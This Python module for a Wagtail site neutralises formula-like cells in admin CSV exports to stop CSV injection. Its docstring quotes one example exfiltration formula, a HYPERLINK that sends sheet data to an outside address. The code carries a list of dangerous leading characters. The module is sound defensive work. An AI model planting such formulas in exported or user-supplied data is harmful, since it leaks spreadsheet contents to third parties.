"""Spreadsheet exports that a spreadsheet program cannot run as formulas.

What visitors type into a form (or an address they subscribe with) ends up in the admin's
CSV exports. Excel and LibreOffice read a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula (``=HYPERLINK("https://…?"&A1, "Klicka")`` sends the sheet's data
away), and a leading tab or carriage return hides such a start. OWASP's advice for CSV
injection: put a single quote before such a cell, which the programs show as text. The
full-width forms are included because some programs fold them to the ASCII ones.

XLSX needs none of this: Wagtail writes every value there as a string cell. Headings are
neutralised in both formats, as Wagtail writes them as plain values (in XLSX too, where
openpyxl would take ``=`` for a formula), and they are form field labels an editor types.
"""

from wagtail.admin.views.mixins import SpreadsheetExportMixin

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralise_formula(value):
    """`value` as a spreadsheet shows it as text: a quote before a formula's first character.
    Anything that is not a string (numbers, dates, None) is left as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCSVExportMixin:
    """For a view with Wagtail's SpreadsheetExportMixin: no cell of its CSV is a formula."""

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        if export_format == SpreadsheetExportMixin.FORMAT_CSV:
            return neutralise_formula(value)
        return value

    def get_heading(self, queryset, field):
        return neutralise_formula(super().get_heading(queryset, field))
